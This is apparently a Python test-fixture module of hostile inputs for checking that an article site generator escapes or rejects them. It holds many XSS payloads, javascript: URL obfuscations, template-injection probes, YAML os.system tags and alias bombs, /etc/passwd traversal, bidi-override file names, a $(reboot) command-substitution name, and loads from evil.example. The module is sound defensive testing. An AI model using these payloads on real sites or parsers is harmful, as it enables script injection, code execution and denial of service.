"""Articles that try to harm: those that must come out as inert text, and those that must not pass.

All of it is made here, by combining ways to run a script with ways to hide it.
"""

import json
from collections.abc import Iterator

RUN = "window.__pwned=1"

_ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT >{RUN}</SCRIPT >",
    f"<script type=module>{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,window.__pwned=1></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</p></div></main><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<!-- --!><script>{RUN}</script>",
    f"<![CDATA[><script>{RUN}</script>]]>",
    f"]]><script>{RUN}</script>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<title></title><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"<textarea></textarea><script>{RUN}</script>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<template><script>{RUN}</script></template>",
    f"<math><mtext></mtext><script>{RUN}</script></math>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<img src=x onerror={RUN}>",
    f"<img src='x'onerror='{RUN}'>",
    f"<img/src=x/onerror={RUN}//",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<p style='animation: x' onanimationstart={RUN}>x</p>",
    "<style>body { background: url(//evil.example/x) }</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><input name=a><button>x</button></form>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<img src=//evil.example/x.png>",
    "<img src='data:image/svg+xml,<svg onload=top.__pwned=1>'>",
    "<img srcset='//evil.example/x.png 1x'>",
    "<picture><source srcset=//evil.example/x></picture>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<isindex type=image src=x onerror={RUN}>",
    f"<x onclick={RUN} tabindex=1 autofocus onfocus={RUN}>",
    "<introduction/>",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.__pwned=1&#60;/script&#62;",
)
_TEMPLATES = (
    "{{ config }}",
    "{{ 7 * 7 }}",
    "{% raw %}{{ x }}",
    "{% include '/etc/passwd' %}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{# comment #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "--8<-- '/etc/passwd'",
    "::: dossier.cli",
    "!!! note",
    "[TOC]",
    "[[wiki]]",
    "\\x02klzzwxh:0000\\x03",
    "wzxhzdk:0",
    "klzzwxh:0001",
    ":octicons-alert-16:",
    "$$ x $$ \\(x\\)",
)
PLAIN = _ELEMENTS + _TEMPLATES
"""Texts that a plain article shows to the letter, and a Markdown article as text of some kind."""

_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java&#115;cript:{RUN}",
    f"java&#x73;cript:{RUN}",
    f"&#0000106avascript:{RUN}",
    f"&#106;&#97;&#118;&#97;script:{RUN}",
    f"javascript&colon;{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&NewLine;script:{RUN}",
    f"java&#10;script:{RUN}",
    f"&#1;javascript:{RUN}",
    f"%6aavascript:{RUN}",
    f"java\\script:{RUN}",
    f"javascript://example.org/%0a{RUN}",
    f"vbscript:{RUN}",
    f"view-source:javascript:{RUN}",
    "data:text/html,<script>window.__pwned=1</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "blob:https://example.org/x",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https:evil.example",
    "http://[::1",
    "http://[",
    "../../../../etc/passwd",
    "/etc/passwd",
    "../themes/trade.md",
    "index.md",
    "#nowhere",
    "#p1",
    "?x",
    "",
)
MARKDOWN = (
    *(f"[link]({address})" for address in _ADDRESSES),
    *(f"[link](<{address}>)" for address in _ADDRESSES[:6]),
    *(f"![image]({address})" for address in _ADDRESSES[:20]),
    *(f"<{address}>" for address in _ADDRESSES[:4]),
    f"[link][a]\n\n[a]: javascript:{RUN}",
    "![image](https://evil.example/x.png)",
    f'[link](https://example.org/ "x\\" onmouseover={RUN}")',
    f'![x" onerror={RUN} y="](https://evil.example/x.png)',
    f"[link](https://example.org/){{: onclick={RUN} }}",
    f"text {{: onclick={RUN} style=color:red }}",
    f"# Heading {{: onclick={RUN} #p1 .x }}",
    f"{{: onclick={RUN} }}",
    f'```{{ .x onclick="{RUN}" }}\ncode\n```',
    f'```"onclick={RUN}\ncode\n```',
    "```<script>\n</code></pre><script>window.__pwned=1</script>\n```",
    f"    <script>{RUN}</script>",
    f"`<script>{RUN}</script>`",
    f"| <script>{RUN}</script> | b |\n|---|:-:|\n| <img src=x onerror={RUN}> | c |",
    f"[^{RUN}]\n\n[^{RUN}]: <script>{RUN}</script>",
    '[^a"b]\n\n[^a"b]: note',
    "[^p1] [^1]\n\n[^p1]: first\n[^1]: second",
    "Setext <b>\n====",
    "* [ ] <input onfocus=x autofocus>",
    f'<https://example.org/"onclick={RUN}>',
    f'https://example.org/"onclick={RUN}',
    "<user@example.org>",
    "\\<script>window.__pwned=1\\</script>",
    "**<script>**window.__pwned=1</script>",
    "***bold *and** crossed*",
    "> <script>\n> window.__pwned=1\n> </script>",
    "<div markdown=1>\n**x**\n</div>",
    "Term\n: <script>window.__pwned=1</script>",
    "*[HTML]: <script>window.__pwned=1</script>\n\nHTML",
    "a&nbsp;b &copy; &notanentity; &#0; &#x202E; &#xD800; &#x110000;",
    "&#" + "9" * 5000 + ";",
    "=" * 3000,
    "x" * 40_000,
)

FRONT_MATTER = tuple(
    text
    for payload in (
        f"</title><script>{RUN}</script>",
        f"&lt;/title&gt;&lt;script&gt;{RUN}&lt;/script&gt;",
        f'"><script>{RUN}</script>',
        f"' onmouseover='{RUN}",
        f'" onmouseover="{RUN}',
        "{{ config.items() }}",
        "{% include 'x' %}",
        "a & b < c > d",
        "*a* [b](javascript:x) `c`",
        "a\nTY  - b\n\n# c\n- d\u2028e",
    )
    for quoted in (json.dumps(payload),)  # which YAML reads too
    for text in (
        f"title: {quoted}",
        f"title: T\ndescription: {quoted}",
        f"title: T\nauthors: [{quoted}]",
        f"title: T\nsource: {{name: {quoted}, licence: {quoted}}}",
        f"title: T\nevent: {{date: 2025-12-09, place: {quoted}}}",
    )
)

URLS = tuple(
    f"title: T\nsource: {{name: S, url: '{url}'}}"
    for url in (
        "https://example.org/?a=1&copy=2&lt=3",
        "https://example.org/{{x}}",
        "https://user:pass@example.org:80/%00",
    )
)

PROBLEMS: dict[str, tuple[str, str]] = {
    # front matter: the YAML, and what the message says
    "keys-class": ("__class__: x", "`__class__` is not a known key"),
    "keys-init": ("__init__: x", "`__init__` is not a known key"),
    "keys-dict": ("__dict__: {a: b}", "`__dict__` is not a known key"),
    "keys-config": ("model_config: {extra: allow}", "`model_config` is not a known key"),
    "keys-fields": ("model_fields_set: []", "`model_fields_set` is not a known key"),
    "keys-proto": ("__proto__: {a: b}", "`__proto__` is not a known key"),
    "keys-template": ("template: main.html", "`template` is not a known key"),
    "keys-hide": ("hide: [navigation]", "`hide` is not a known key"),
    "keys-path": ("path: ../../x", "`path` is not a known key"),
    "keys-blocks": ("blocks: []", "`blocks` is not a known key"),
    "keys-escape": ('"\\e[2J": x', "escapes the character"),
    "keys-number": ("1: x", "is no name of a key"),
    "keys-null": ("null: x", "is no name of a key"),
    "keys-list": ("? [a]\n: b", "is not valid YAML"),
    "keys-many": ("a: b\n" * 30_000, "longer than 100,000 characters"),
    "keys-huge": ("k" * 5000 + ": b", "is not valid YAML"),
    "slug-up": ("slug: ../../etc/passwd", "`slug` must be lower-case"),
    "slug-root": ("slug: /etc/passwd", "`slug` must be lower-case"),
    "slug-dots": ("slug: '..'", "`slug` must be lower-case"),
    "slug-index": ("slug: index", "cannot be used"),
    "slug-line": ('slug: "a\\n"', "`slug` must be lower-case"),
    "slug-null": ('slug: "a\\0b"', "escapes the character"),
    "slug-query": ("slug: a?b#c", "`slug` must be lower-case"),
    "slug-percent": ("slug: '%2e%2e'", "`slug` must be lower-case"),
    "slug-back": ("slug: 'a\\b'", "`slug` must be lower-case"),
    "slug-long": ("slug: " + "a" * 300, "`slug` is too long"),
    "slug-greek": ("slug: αβγ", "`slug` must be lower-case"),
    "yaml-python": ("title: !!python/object/apply:os.system [id]", "tags (`!`) are not allowed"),
    "yaml-name": ("title: !!python/name:os.system", "tags (`!`) are not allowed"),
    "yaml-int": ("title: !!int ''", "tags (`!`) are not allowed"),
    "yaml-bool": ("draft: !!bool maybe", "tags (`!`) are not allowed"),
    "yaml-time": ("date: !!timestamp x", "tags (`!`) are not allowed"),
    "yaml-own": ("title: !x y", "tags (`!`) are not allowed"),
    "yaml-env": ("title: !ENV HOME", "tags (`!`) are not allowed"),
    "yaml-alias": ("title: &a x\nauthors: [*a]", "anchors and aliases"),
    "yaml-bomb": (
        "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nd: [*c, *c]",
        "anchors and aliases",
    ),
    "yaml-loop": ("title: &a [*a]", "anchors and aliases"),
    "yaml-deep": ("title: " + "[" * 5000, "is not valid YAML"),
    "yaml-deep-map": ("title: " + "{a: " * 5000, "is not valid YAML"),
    "yaml-open": ("title: 'x", "is not valid YAML"),
    "yaml-digits": ("title: " + "9" * 5000, "is not valid YAML"),
    "yaml-sixty": ("date: 1:" + "1:" * 400 + "1.5", "is not valid YAML"),
    "yaml-day": ("date: 2025-02-31", "is no day of the calendar"),
    "yaml-hour": ("date: 2025-12-09 99:99:99", "is no day of the calendar"),
    "yaml-surrogate": ('title: "\\ud800"', "is not valid YAML"),
    "yaml-null": ('title: "a\\0b"', "escapes the character"),
    "yaml-bell": ('title: "\\a"', "escapes the character"),
    "yaml-bidi": ('title: "\\u202Eabc"', "escapes the character RIGHT-TO-LEFT OVERRIDE"),
    "yaml-isolate": ('authors: ["\\u2066a"]', "escapes the character LEFT-TO-RIGHT ISOLATE"),
    "text-long": ("title: " + "a" * 1000, "`title` is too long"),
    "text-blank": ("title: ' '", "is blank"),
    "url-script": ("source: {name: S, url: 'javascript:x'}", "must be an address"),
    "url-data": ("source: {name: S, url: 'data:text/html,x'}", "must be an address"),
    "url-host": ("source: {name: S, url: 'https://['}", "must be the address of a page"),
    "url-none": ("source: {name: S, url: 'https:///x'}", "must be the address of a page"),
    "url-markup": ("source: {name: S, url: 'https://a/\"><script>'}", "must be an address"),
    "published": ("source: {name: S, published: '2025-02-31'}", "no day of the calendar"),
    "language": ("language: '\"><script>'", "must be a language code"),
    "draft": ("draft: 'no'", "must be `true` or `false`"),
}

TOO_MANY_MARKS = "has more than 1,000 headings, rules, foot"

BODIES: dict[str, tuple[str, str]] = {
    # whole files, by name: the text, and what the message says
    "null.txt": ("a\0b", "control character"),
    "escape.txt": ("a \x1b[2J b", "control character"),
    "delete.txt": ("a\x7f", "control character"),
    "override.txt": ("a \u202e b", "RIGHT-TO-LEFT OVERRIDE"),
    "embedding.txt": ("a \u202a b", "LEFT-TO-RIGHT EMBEDDING"),
    "pop.md": ("a \u202c b", "POP DIRECTIONAL FORMATTING"),
    "isolate.md": ("a \u2067 b", "RIGHT-TO-LEFT ISOLATE"),
    "stx.md": ("\x02wzxhzdk:0\x02", "control character"),
    "noncharacter.txt": ("a\ufffeb", "control character"),
    "many-controls.txt": ("\x01" * 100_000, "control character"),
    "blank.txt": ("\u2003\n\u00a0\n", "has no text"),
    "rule.md": ("***", "has no text"),
    "references.md": ("[a]: https://example.org/", "has no text"),
    "quotes.md": (">" * 10_000 + " a", "is nested more than 20 deep"),
    "quotes-apart.md": ("> " * 10_000 + "a", "is nested more than 20 deep"),
    "lists.md": ("- " * 10_000 + "a", "is nested more than 20 deep"),
    "numbers.md": ("1. " * 10_000 + "a", "is nested more than 20 deep"),
    "brackets.md": ("[" * 10_000, "brackets that are not closed"),
    "pairs.md": ("[" * 5_000 + "]" * 5_000, "brackets that are not closed"),
    "links.md": ("[a](" * 10_000, "brackets that are not closed"),
    "escaped.md": ("![ \\]" * 10_000, "brackets that are not closed"),
    "images.md": ("![a](" * 10_000, "brackets that are not closed"),
    "broken-lines.md": ("[a](\n" * 10_000, "brackets that are not closed"),
    "block.md": ("word " * 20_000, "divide it by blank lines"),
    "block.txt": ("word\n" * 20_000, "divide it by blank lines"),
    "size.md": (("word " * 10 + "\n\n") * 20_000, "is longer than 1,000,000 characters"),
    "size.txt": (("word " * 10 + "\n\n") * 20_000, "is longer than 1,000,000 characters"),
    "passages.md": ("word\n\n" * 5_001, "has more than 5,000 passages"),
    "passages.txt": ("word\n\n" * 5_001, "has more than 5,000 passages"),
    "rules.md": ("word\n\n" + "* * *\n" * 10_000, TOO_MANY_MARKS),
    "fences.md": ("```\n" * 12_000, TOO_MANY_MARKS),
    "open-fences.md": ("```a\nb\n" * 8_000, TOO_MANY_MARKS),
    "footnotes.md": ("[^a]:\n    b\n" * 4_000, TOO_MANY_MARKS),
    "references-made.md": ("[a]:\n" * 10_000, TOO_MANY_MARKS),
    "footnotes-in-one.md": ("[^1]:_" * 8_000, TOO_MANY_MARKS),
    "backticks.md": ("\\```|" * 8_000, TOO_MANY_MARKS),
    "underlined.md": ("a\n=\n" * 12_000, TOO_MANY_MARKS),
    "10-megabytes.txt": ("word " * 2_000_000, "is larger than 5,000,000 bytes"),
    "10-megabytes.md": ("word " * 2_000_000, "is larger than 5,000,000 bytes"),
    "a-million.txt": ("w\n\n" * 1_000_000, "is longer than 1,000,000 characters"),
    "a-million.md": ("w\n\n" * 1_000_000, "is longer than 1,000,000 characters"),
    "headings.md": ("# a\n\n" * 2_000, TOO_MANY_MARKS),
    "heading.md": ("# " + "word " * 200 + "\n\ntext", "is a heading of more than 300"),
    "open.txt": ("---\ntitle: x\n", "the front matter is not closed"),
    "y" * 200 + ".txt": ("text", "a slug of over 100 characters"),
    "---.txt": ("text", "which cannot be used; add a `slug`"),
    "article.txt.exe": ("text", "is not a .md or .txt file"),
    "2025-99-99-x.txt": ("text", "which is no date"),
    "esc\x1b[2J.txt": ("text", "has a control character in its name"),
    "line\nfeed.txt": ("text", "has a control character in its name"),
    "gpj.\u202etxt.txt": ("text", "has a control character in its name"),
}

NAMES = (
    "a b.txt",
    "quote'\".txt",
    "<script>alert(1)<script>.txt",
    "{{ config }}.txt",
    "%2e%2e%2fetc.txt",
    "con.txt",
    "$(reboot).txt",
    "--strict.txt",
    "नमस्ते.txt",
    "CAPITALS.TXT",
    "semi;colon.md",
    "back\\slash.md",
)
"""File names that are odd, and harmless."""

NESTED = ("*a _b " * 200, "**a *b " * 200, "> - " * 10 + "a", "`` ` " * 500, "~~~ `" * 500)


def inert() -> Iterator[tuple[str, str]]:
    """File names and texts of all articles that must come out as harmless pages."""
    size = 6
    for start in range(0, len(PLAIN), size):
        text = "\n\n".join(f"A tariff. {payload}" for payload in PLAIN[start : start + size])
        head = f"---\ntitle: Set {start}\n---\n"
        yield f"plain-{start}.txt", head + text
        yield f"marked-{start}.md", head + text
        alone = "\n\n".join(PLAIN[start : start + size])
        yield f"alone-{start}.md", head + alone
    for number, payload in enumerate(PLAIN[:: len(PLAIN) // 12]):
        yield f"untitled-{number}.txt", f"{payload} is the first sentence on tariffs."
    sets = [MARKDOWN[start : start + 4] for start in range(0, len(MARKDOWN), 4)]
    for number, payloads in enumerate([*sets, NESTED]):
        text = "\n\nOn tariffs.\n\n".join(payloads)
        yield f"markdown-{number}.md", f"---\ntitle: M{number}\n---\nOn tariffs.\n\n{text}\n"
    for number, front_matter in enumerate(FRONT_MATTER + URLS):
        yield f"front-{number}.txt", f"---\n{front_matter}\n---\nOn tariffs."
    for number, name in enumerate(NAMES):
        yield name, f"On tariffs, in the file number {number}."


def count() -> int:
    """How many cases there are."""
    single = (PLAIN, PLAIN, MARKDOWN, NESTED, FRONT_MATTER, URLS, PROBLEMS, BODIES, NAMES)
    return sum(map(len, single))
